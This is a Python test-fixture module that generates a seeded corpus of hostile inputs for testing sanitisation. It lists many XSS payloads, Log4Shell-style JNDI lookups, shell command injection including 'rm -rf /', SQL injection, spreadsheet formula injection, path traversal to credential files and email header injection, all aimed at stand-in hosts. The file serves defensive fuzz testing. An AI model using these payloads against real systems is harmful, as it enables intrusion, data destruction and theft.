"""Hostile texts: written by hand, and spliced from those by a seeded generator.

`hostile_texts(n)` gives the same n texts every time, the hand-written ones first. They are
for every field that comes from outside (body, name, subject, file name, ticket), on the
page, in feeds and at the desk.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator

#: What runs if it gets as far as a browser. The word is what tests look for.
ALARM = "alert(8472)"

_HANDLERS = "load error click mouseover focus toggle begin pointerenter animationstart".split()
_TAGS = "img svg video audio iframe body input details marquee math object embed a".split()
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6A&#x61vascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "\u2028javascript:",
    "java\u200bscript:",
    "javascript\x00:",
    "blob:",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:/\\evil.example",
    "https:evil.example",
    "http://council.gov.uk@evil.example/",
    "https://council.gov.uk%2f@evil.example/",
    "https://xn--80ak6aa92e.example/",
    "https://соuncil.gov.uk/",
    "tel:+447700900123",
    "sms:07700900123",
    "?next=//evil.example",
    "/../../admin",
    "#top",
)

HAND_WRITTEN: tuple[str, ...] = (
    *(f"<{tag} on{event}={ALARM}>" for tag in _TAGS for event in _HANDLERS),
    *(f"[council]({scheme}{ALARM})" for scheme in _SCHEMES),
    *(f"<{scheme}{ALARM}>" for scheme in _SCHEMES),
    *(f'<a href="{scheme}{ALARM}">x</a>' for scheme in _SCHEMES),
    *(f"[a]: {scheme}{ALARM}\n\n[a]" for scheme in _SCHEMES[:6]),
    f"<script>{ALARM}</script>",
    f"<ScRiPt >{ALARM}</sCrIpT >",
    f"<script/x>{ALARM}</script\t\n>",
    f"<scr<script>ipt>{ALARM}</scr</script>ipt>",
    f"<script src=data:,{ALARM}></script>",
    f"<<script>{ALARM};//<</script>",
    f"<svg><script>{ALARM}</script>",
    f"<svg><style><img src=x onerror={ALARM}></style></svg>",
    f"<svg><animate onbegin={ALARM} attributeName=x dur=1s>",
    f'<svg><a><animate attributeName=href values="javascript:{ALARM}"/>x</a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALARM}>",
    f'<math href="javascript:{ALARM}">x</math>',
    f"<noscript><p title='</noscript><img src=x onerror={ALARM}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={ALARM}>'>",
    f"<title><img title='</title><img src=x onerror={ALARM}>'>",
    f"<template><img src=x onerror={ALARM}></template>",
    f"<!--><img src=x onerror={ALARM}>-->",
    f"<!-- --!><img src=x onerror={ALARM}> -->",
    f"<![CDATA[<img src=x onerror={ALARM}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={ALARM}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={ALARM}>'>]>&y;",
    f'"><img src=x onerror={ALARM}>',
    f"'><svg/onload={ALARM}>",
    f"`><svg/onload={ALARM}>",
    f'" autofocus onfocus={ALARM} x="',
    f"' onmouseover='{ALARM}",
    f"</title><svg onload={ALARM}>",
    f"</textarea><svg onload={ALARM}>",
    f"</script><script>{ALARM}</script>",
    f"</style><svg onload={ALARM}>",
    f"]]><svg onload={ALARM}>",
    f"--><svg onload={ALARM}>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'>",
    f"<iframe src=javascript:{ALARM}>",
    f"<object data=javascript:{ALARM}>",
    f"<embed src=javascript:{ALARM}>",
    f"<form action=javascript:{ALARM}><button>x</button></form>",
    f"<form><button formaction=javascript:{ALARM}>x</button></form>",
    f"<input type=image src=x onerror={ALARM}>",
    f"<isindex action=javascript:{ALARM} type=image>",
    f"<base href=javascript:{ALARM}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALARM}'>",
    f"<link rel=stylesheet href='data:text/css,*{{x:expression({ALARM})}}'>",
    f"<style>@import 'javascript:{ALARM}'</style>",
    f"<div style='background:url(javascript:{ALARM})'>x</div>",
    f"<p style=animation-name:x onanimationstart={ALARM}>x",
    f"<a href='x' onclick={ALARM}>x</a>",
    f'<a href="https://evil.example" target=_blank style=position:fixed;inset:0>{ALARM}</a>',
    f"<b id=body class=moderator lang=cy title={ALARM} dir=rtl>x</b>",
    f"<video><source onerror={ALARM}></video>",
    f"<audio src=x onerror={ALARM}>",
    f"<details open ontoggle={ALARM}>x",
    f"<select onfocus={ALARM} autofocus>",
    f"<keygen autofocus onfocus={ALARM}>",
    f"<marquee onstart={ALARM}>x",
    f"<table background=javascript:{ALARM}><td>x",
    f"<xss id=x tabindex=1 onfocus={ALARM}>",
    f"<dialog open onclose={ALARM}><form method=dialog><button>x",
    f"<portal src=javascript:{ALARM}>",
    f"<plaintext><img src=x onerror={ALARM}>",
    f"<xmp><img src=x onerror={ALARM}></xmp>",
    f"<listing>&lt;img src=x onerror={ALARM}&gt;</listing>",
    f"&lt;img src=x onerror={ALARM}&gt;",
    f"&amp;lt;script&amp;gt;{ALARM}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{ALARM}&#60;/script&#62;",
    f"\\<script\\>{ALARM}\\</script\\>",
    f"\u2039script\u203a{ALARM}\uff1cscript\uff1e",
    f"%3Cscript%3E{ALARM}%3C/script%3E",
    f"+ADw-script+AD4-{ALARM}+ADw-/script+AD4-",
    f"```html\n<script>{ALARM}</script>\n```",
    f'```" onload={ALARM} "\nx\n```',
    f"`<img src=x onerror={ALARM}>`",
    f"    <img src=x onerror={ALARM}>",
    f"![x](javascript:{ALARM})",
    f'![x"onerror={ALARM}](x)',
    f'![x](x"onerror={ALARM}")',
    f"[x](x 'title\" onmouseover={ALARM} \"')",
    f"[x](<javascript:{ALARM}>)",
    f'[x](https://a.example/" onmouseover={ALARM} ")',
    f"[x](https://a.example/'onmouseover={ALARM}//)",
    f"[<img src=x onerror={ALARM}>](https://a.example/)",
    f"[![x](javascript:{ALARM})](javascript:{ALARM})",
    f'<https://a.example/"onmouseover={ALARM}//>',
    f"<https://a.example/<script>{ALARM}</script>>",
    f'<a@b.example"onmouseover={ALARM}>',
    f"[https://council.gov.uk/](https://evil.example/{ALARM})",
    f"> <svg onload={ALARM}>",
    f"- <svg onload={ALARM}>\n  - <svg onload={ALARM}>",
    f"| <svg onload={ALARM}> |\n| --- |\n| x |",
    f"x[^1]\n\n[^1]: <svg onload={ALARM}>",
    f"{{{{ {ALARM} }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %> {{{{7*7}}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{static}/../../etc/passwd {filename}../secret.md {attach}x |filename|x",
    "${jndi:ldap://evil.example/a} `id` $(id) ; rm -rf / | cat /etc/passwd",
    "' OR '1'='1'; DROP TABLE comments;-- ",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd\x00.json",
    "CON.json",
    "x\r\nBcc: everybody@evil.example\r\n\r\nx",
    "x=0D=0ABcc: everybody@evil.example",
    "=?utf-8?q?x=0D=0ABcc:_everybody@evil.example?=",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\ufeff\u200bx\u200d\u2060",
    "Z\u0310\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 20,
    "\x00\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85\x9b31m",
    "\ud800 \udfff \ufffe \uffff \ufdd0 \U0001fffe \U0010ffff",
    "\U000e0041\U000e0042",
    "\u2028\u2029\u0085",
    "𝒥𝒶𝓋𝒶𝓈𝒸𝓇𝒾𝓅𝓉:" + ALARM,
    "ﬁ ﷽ ﷺ " * 30,
    "&" * 200 + "#x" * 100 + "&#99999999;&#xD800;&#0;",
    "<" * 300,
    ">" * 300,
    '"' * 100 + "'" * 100 + "`" * 101,
)

_WRAPS: list[Callable[[str], str]] = [
    lambda text: f"[x]({text})",
    lambda text: f"[{text}](https://a.example/)",
    lambda text: f"<{text}>",
    lambda text: f"**{text}** _{text}_",
    lambda text: f"`{text}`",
    lambda text: f"```{text}\n{text}\n```",
    lambda text: f"> {text}\n> - {text}",
    lambda text: f"1. {text}\n\n   {text}",
    lambda text: f'<a href="{text}">{text}</a>',
    lambda text: f"<!-- {text} --> {text}",
    lambda text: f"\\{text}",
    lambda text: f"<div>\n{text}\n</div>",
    lambda text: f"<svg><desc>{text}</desc></svg>",
    lambda text: f"<math><annotation-xml encoding='text/html'>{text}",
    lambda text: f"&#x{ord(text[0]) if text else 32:x};{text[1:]}",
    lambda text: base64.b64encode(text.encode("utf-8", "replace")).decode(),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text[:80]),
    lambda text: text.swapcase(),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("=", "\x0c=\n"),
]
_CRUMBS: tuple[str, ...] = (
    *"<>\"'`&\\/()[]!*_#-=;: \n\t",
    "\x00",
    "\x0b",
    "\u200d",
    "\u202e",
    "\ufdd0",
    "<!--",
    "-->",
    "]]>",
    "&#",
    "&lt;",
    "](",
    "](javascript:",
    "\n\n",
    "\n> ",
    "\n- ",
    "```",
    "</",
    "<svg>",
    "<style>",
    "<a href=",
    " on",
    "é",
    "👩‍💻",
)


def hostile_texts(count: int, seed: int = 20261122) -> tuple[str, ...]:
    """Return `count` different hostile texts; the same ones for the same seed."""
    texts = dict.fromkeys(HAND_WRITTEN)
    for text in _spliced(random.Random(seed)):
        if len(texts) >= count:
            break
        texts[text] = None
    return tuple(texts)[:count]


def _spliced(chance: random.Random) -> Iterator[str]:
    while True:
        text = chance.choice(HAND_WRITTEN)
        for _ in range(chance.randint(1, 4)):
            text = _mutated(text, chance)
        yield text[:3_000]


def _mutated(text: str, chance: random.Random) -> str:
    place = chance.randint(0, len(text))
    match chance.randint(0, 4):
        case 0:
            return chance.choice(_WRAPS)(text)
        case 1:
            return text[:place] + chance.choice(_CRUMBS) + text[place:]
        case 2:
            other = chance.choice(HAND_WRITTEN)
            return text[:place] + other[chance.randint(0, len(other)) :]
        case 3:
            end = chance.randint(place, len(text))
            return text[:place] + text[end:]
        case _:
            return text + chance.choice(("", " ", "\n", "\n\n")) + chance.choice(HAND_WRITTEN)
